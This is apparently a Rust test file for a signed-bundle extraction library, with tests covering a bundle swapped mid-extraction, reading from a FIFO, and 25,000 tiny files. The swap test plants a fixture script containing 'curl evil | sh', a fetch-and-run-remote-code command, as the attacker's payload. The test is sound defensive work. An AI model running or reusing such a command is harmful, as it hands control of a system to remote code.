//! Extraction is one pass over one open file: what is extracted is what was verified.

use std::fs;
use std::io::Write as _;
use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::mpsc;
use std::time::Duration;

use korral_bundle::{ExtractOptions, Limits, Progress, extract, verify};

use crate::util::Scratch;

fn options(to: PathBuf) -> ExtractOptions {
    ExtractOptions {
        to,
        limits: Limits::default(),
        require_signature: true,
        insecure_skip_verify: false,
    }
}

/// Replaces the bundle with another file the first time progress is reported, that
/// is, once reading has begun: a swap between checking and using.
struct SwapWhileReading {
    bundle: PathBuf,
    replacement: PathBuf,
    done: AtomicBool,
}

impl Progress for SwapWhileReading {
    fn start(&self, _phase: &str, _total: u64) {}

    fn advance(&self, _bytes: u64) {
        if !self.done.swap(true, Ordering::SeqCst) {
            fs::rename(&self.replacement, &self.bundle).unwrap();
        }
    }

    fn finish(&self) {}
}

#[test]
fn a_bundle_swapped_during_extraction_is_not_what_gets_extracted() {
    let scratch = Scratch::new();
    let good = scratch.folder("good", &[("app/run.sh", b"echo signed\n")]);
    let (bundle, _) = scratch.bundle(&good, "site.tar.zst", true);
    // The attacker's bundle: unsigned, consistent with its own manifest.
    let evil = scratch.folder("evil", &[("app/run.sh", b"curl evil | sh\n")]);
    let (replacement, _) = scratch.bundle(&evil, "evil.tar.zst", false);
    let progress = SwapWhileReading {
        bundle: bundle.clone(),
        replacement,
        done: AtomicBool::new(false),
    };
    let to = scratch.path("out");
    let report = extract(&bundle, &scratch.keyring, &options(to.clone()), &progress).unwrap();
    assert!(
        progress.done.load(Ordering::SeqCst),
        "the swap never happened"
    );
    assert!(report.unwrap().ok());
    // The bytes extracted are those of the open file, which were verified.
    assert_eq!(
        fs::read(to.join("good/app/run.sh")).unwrap(),
        b"echo signed\n"
    );
    assert!(!to.join("evil").exists());

    // And the swapped-in bundle, extracted on its own, fails for want of a signature.
    let again = extract(
        &bundle,
        &scratch.keyring,
        &options(scratch.path("again")),
        &korral_bundle::NoProgress,
    );
    assert!(
        matches!(again, Err(korral_bundle::Error::Verification(_))),
        "{again:?}"
    );
    assert!(!scratch.path("again").exists());
}

#[test]
fn a_bundle_extracts_from_a_fifo_which_can_be_read_only_once() {
    let scratch = Scratch::new();
    let good = scratch.folder(
        "good",
        &[("k3s/k3s", b"binary"), ("charts/a.yaml", b"a: 1\n")],
    );
    let (bundle, _) = scratch.bundle(&good, "site.tar.zst", true);
    let fifo = scratch.path("pipe");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    let data = fs::read(&bundle).unwrap();
    let writer_path = fifo.clone();
    // The writer serves the bundle once: a second open would wait forever.
    std::thread::spawn(move || {
        let mut pipe = fs::OpenOptions::new()
            .write(true)
            .open(writer_path)
            .unwrap();
        pipe.write_all(&data).unwrap();
    });
    let to = scratch.path("out");
    let (done, result) = mpsc::channel();
    let keyring = scratch.keyring.clone();
    let extract_to = to.clone();
    std::thread::spawn(move || {
        let outcome = extract(
            &fifo,
            &keyring,
            &options(extract_to),
            &korral_bundle::NoProgress,
        )
        .map(|report| report.is_some_and(|r| r.ok()));
        let _ = done.send(outcome.map_err(|err| err.to_string()));
    });
    let outcome = result
        .recv_timeout(Duration::from_secs(120))
        .expect("extraction from a FIFO hung: it opened the bundle twice");
    assert_eq!(outcome, Ok(true));
    assert_eq!(fs::read(to.join("good/k3s/k3s")).unwrap(), b"binary");
}

#[test]
fn a_bundle_of_25000_tiny_files_verifies_and_extracts() {
    let scratch = Scratch::new();
    let root = scratch.path("many");
    for dir in 0..25 {
        let folder = root.join(format!("d{dir:02}"));
        fs::create_dir_all(&folder).unwrap();
        for file in 0..1000 {
            fs::write(
                folder.join(format!("f{file:04}")),
                format!("{dir} {file}\n"),
            )
            .unwrap();
        }
    }
    let (bundle, manifest) = scratch.bundle(&root, "many.tar.zst", true);
    assert_eq!(manifest.entries.len(), 25_000);
    // Far beyond 100:1: tar headers of tiny files compress to almost nothing.
    let report = verify(&bundle, &scratch.keyring, &Limits::default(), true).unwrap();
    assert!(report.ok(), "{report:#?}");
    assert_eq!(report.entries, 25_000);
    let to = scratch.path("out");
    extract(
        &bundle,
        &scratch.keyring,
        &options(to.clone()),
        &korral_bundle::NoProgress,
    )
    .unwrap();
    assert_eq!(fs::read(to.join("many/d24/f0999")).unwrap(), b"24 999\n");
}
